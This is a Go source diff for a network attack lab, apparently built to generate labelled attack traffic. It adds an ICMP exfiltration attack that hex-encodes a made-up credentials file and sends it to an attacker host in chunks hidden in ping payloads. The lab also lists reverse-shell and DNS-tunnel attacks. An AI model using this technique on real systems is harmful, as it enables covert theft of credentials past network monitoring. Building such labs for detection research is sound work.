@@ -3,6 +3,7 @@ package lab
 import (
 	"context"
 	"encoding/base32"
+	"encoding/hex"
 	"fmt"
 	"io"
 	"math/rand/v2"
@@ -18,7 +19,7 @@ import (
 )
 
 // Attack names accepted in Config.Attacks.
-var AttackNames = []string{"nmap", "hping3", "hydra", "beacon", "dnstunnel", "revshell"}
+var AttackNames = []string{"nmap", "hping3", "hydra", "beacon", "dnstunnel", "revshell", "icmpexfil"}
 
 // attack runs one labelled attack from the attacker host within ctx (its
 // time slot) and returns the command it ran, or a reason to skip it.
@@ -31,6 +32,7 @@ var attacks = map[string]attackFunc{
 	"beacon":    beaconAttack,
 	"dnstunnel": dnsTunnelAttack,
 	"revshell":  revshellAttack,
+	"icmpexfil": icmpExfilAttack,
 }
 
 func runTool(ctx context.Context, att *host, prog string, args ...string) (string, error) {
@@ -214,6 +216,44 @@ func revshellAttack(ctx context.Context, l *lab, att *host) (string, string, err
 	case <-time.After(5 * time.Second):
 	}
 	return fmt.Sprintf("victim: %s; attacker on %s:%d types: %s", line, att.addr, portShell, strings.Join(shellCommands, "; ")), "", nil
+}
+
+// exfilSecret is what icmpExfilAttack leaks: a made-up credentials file
+// (the lab sends nothing of the machine it runs on), 96 bytes, six chunks
+// of 16.
+const exfilSecret = "db_host=10.99.0.10\ndb_user=app\ndb_pass=S3cr3t-lab-only!\n" +
+	"api_key=3f9a1c0e5b7d4e21a8c6\nrole=admin\n##"
+
+// icmpExfilAttack: data exfiltration over ICMP echo, the "ping -p" trick.
+// The web server host (the victim, as after the reverse shell) sends a
+// made-up secrets file to the attacker 16 bytes at a time, each chunk as
+// iputils ping's fill pattern (-p, in hex) of one 48-byte echo request
+// (a 16-byte timestamp, then the chunk twice), about one a second; the
+// attacker's kernel answers each with the same payload. Real ping, real
+// echoes, nothing beyond the lab's namespaces.
+func icmpExfilAttack(ctx context.Context, l *lab, att *host) (string, string, error) {
+	ping, err := lookPath("ping")
+	if err != nil {
+		return "", "ping not installed (apt-get install iputils-ping)", nil
+	}
+	victim := l.hosts[0]
+	rng := rand.New(rand.NewPCG(l.cfg.Seed, 0x1c3f))
+	sent := 0
+	for off := 0; off+16 <= len(exfilSecret); off += 16 {
+		pattern := hex.EncodeToString([]byte(exfilSecret[off : off+16]))
+		out, err := victim.ns.command(ctx, ping, "-n", "-c", "1", "-W", "1", "-s", "48", "-p", pattern, att.addr.String()).CombinedOutput()
+		if ctx.Err() != nil {
+			break // the slot ended
+		}
+		if err != nil {
+			return "", "", fmt.Errorf("ping -p: %w: %s", err, lastLine(string(out)))
+		}
+		sent++
+		if !sleep(ctx, time.Duration(700+rng.IntN(600))*time.Millisecond) {
+			break
+		}
+	}
+	return fmt.Sprintf("victim %s: ping -n -c 1 -W 1 -s 48 -p HEX %s, %d chunks of 16 bytes", victim.addr, att.addr, sent), "", nil
 }
 
 // runAttacks runs the requested attacks one after another, each in its own
